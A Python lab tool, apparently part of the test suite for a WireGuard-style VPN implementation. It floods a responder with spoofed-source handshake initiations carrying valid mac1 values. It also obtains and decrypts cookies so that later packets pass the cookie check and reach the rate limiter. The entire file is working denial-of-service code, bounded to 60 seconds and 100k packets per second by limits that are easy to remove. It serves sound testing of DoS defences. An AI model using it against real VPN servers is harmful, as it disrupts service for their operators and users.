"""A handshake flooder for the lab, run inside the attacker's namespace.

    python3 flood.py --target 10.80.0.1:51820 --pub HEX --rate 4000 --duration 10 \\
        --spoof 10.88.0.0/20 --holder 10.88.200.1 --holder fd00:80::a1 ...

Two kinds of traffic, paced in 1 ms slots and bounded in time:

- spoofed junk: initiations with a valid mac1 (it needs only the responder's
  public key) and a random body, each from another address of ``--spoof``
  (sent with IP_PKTINFO; the namespace routes the range locally, so cookie
  replies come back to it) and one of 32 source ports;
- cookie holders: one socket per ``--holder`` address (which must be local)
  that first earns a cookie by sending one initiation and opening the cookie
  reply, then sends initiations with a valid mac2 at ``--holder-rate``:
  these pass the cookie check and meet the per-source rate limiter.

Prints one JSON object with what was sent and received.  Only lab
addresses are ever used: the caller passes them.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import socket
import struct
import time
from dataclasses import dataclass

from wgpy.protocol import messages as m
from wgpy.protocol.constants import LABEL_COOKIE, LABEL_MAC1
from wgpy.protocol.crypto import hash_, mac, xaead_decrypt

IP_PKTINFO = 8
IPV6_FREEBIND = 78
PORTS = 32
POOL = 2048


def junk(mac1_key: bytes, cookie: bytes | None = None) -> bytes:
    head = struct.pack("<II", m.MESSAGE_INITIATION, int.from_bytes(os.urandom(4), "little"))
    covered = head + os.urandom(108)
    mac1 = mac(mac1_key, covered)
    mac2 = mac(cookie, covered + mac1) if cookie is not None else bytes(16)
    return covered + mac1 + mac2


@dataclass
class Holder:
    sock: socket.socket
    address: str
    first: bytes = b""
    cookie: bytes | None = None
    sent: int = 0
    replies: int = 0
    next_at: float = 0.0


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--target", required=True)
    p.add_argument("--target6", default="")
    p.add_argument("--pub", required=True, help="responder public key, hex")
    p.add_argument("--rate", type=float, default=2000)
    p.add_argument("--duration", type=float, default=5)
    p.add_argument("--spoof", default="10.88.0.0/20")
    p.add_argument("--holder", action="append", default=[])
    p.add_argument("--holder-start", type=float, default=1.0)
    p.add_argument("--holder-rate", type=float, default=200)
    a = p.parse_args(argv)
    host, port = a.target.rsplit(":", 1)
    target = (host, int(port))
    target6 = None
    if a.target6:
        h6, p6 = a.target6.rsplit(":", 1)
        target6 = (h6.strip("[]"), int(p6))
    pub = bytes.fromhex(a.pub)
    mac1_key = hash_(LABEL_MAC1, pub)
    cookie_key = hash_(LABEL_COOKIE, pub)
    if a.duration > 60 or a.rate > 100_000:
        raise SystemExit("refusing: the lab flood is bounded to 60 s and 100k/s")

    socks = []
    for i in range(PORTS):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.bind(("0.0.0.0", 20000 + i))
        s.setblocking(False)
        socks.append(s)
    spoof = list(ipaddress.IPv4Network(a.spoof).hosts())
    pktinfo = [struct.pack("=I4s4s", 0, ip.packed, ip.packed) for ip in spoof]
    pool = [junk(mac1_key) for _ in range(POOL)]

    holders: list[Holder] = []
    for k, addr in enumerate(a.holder):
        fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        if fam == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        s.bind((addr, 30000 + k))
        s.setblocking(False)
        holders.append(Holder(s, addr))

    sent = 0
    errors = 0
    t0 = time.monotonic()
    end = t0 + a.duration
    holder_gap = 1.0 / a.holder_rate if a.holder_rate > 0 else float("inf")
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * a.rate) - sent
        for _ in range(min(due, 5000)):
            j = i % len(spoof)
            try:
                socks[i % PORTS].sendmsg([pool[i % POOL]],
                                         [(socket.IPPROTO_IP, IP_PKTINFO, pktinfo[j])],
                                         0, target)
            except (BlockingIOError, OSError):
                errors += 1
            sent += 1
            i += 1
        if now - t0 >= a.holder_start:
            for h in holders:
                _run_holder(h, now, holder_gap, mac1_key, cookie_key,
                            target6 if ":" in h.address and target6 else target)
        time.sleep(0.001)
    elapsed = time.monotonic() - t0
    print(json.dumps({
        "sent": sent, "errors": errors, "elapsed": elapsed, "rate": sent / elapsed,
        "sources": len(spoof), "ports": PORTS,
        "holders": [{"address": h.address, "cookie": h.cookie is not None, "sent": h.sent,
                     "replies": h.replies} for h in holders],
    }))
    return 0


def _run_holder(h: Holder, now: float, gap: float, mac1_key: bytes, cookie_key: bytes,
                target: tuple[str, int]) -> None:
    while True:
        try:
            data = h.sock.recv(256)
        except (BlockingIOError, OSError):
            break
        h.replies += 1
        if len(data) == m.COOKIE_REPLY_SIZE and h.first and h.cookie is None:
            r = m.CookieReply.unpack(data)
            _, mac1 = m.mac1_span(h.first)
            h.cookie = xaead_decrypt(cookie_key, r.nonce, r.encrypted_cookie, mac1)
    if h.cookie is None:
        if now >= h.next_at:  # ask (again) for a cookie, twice a second
            h.first = junk(mac1_key)
            _send(h, h.first, target)
            h.next_at = now + 0.5
        return
    while h.next_at <= now:
        _send(h, junk(mac1_key, h.cookie), target)
        h.next_at = max(h.next_at + gap, now - 0.05)


def _send(h: Holder, data: bytes, target: tuple[str, int]) -> None:
    try:
        h.sock.sendto(data, target)
        h.sent += 1
    except (BlockingIOError, OSError):
        pass


if __name__ == "__main__":
    raise SystemExit(main())
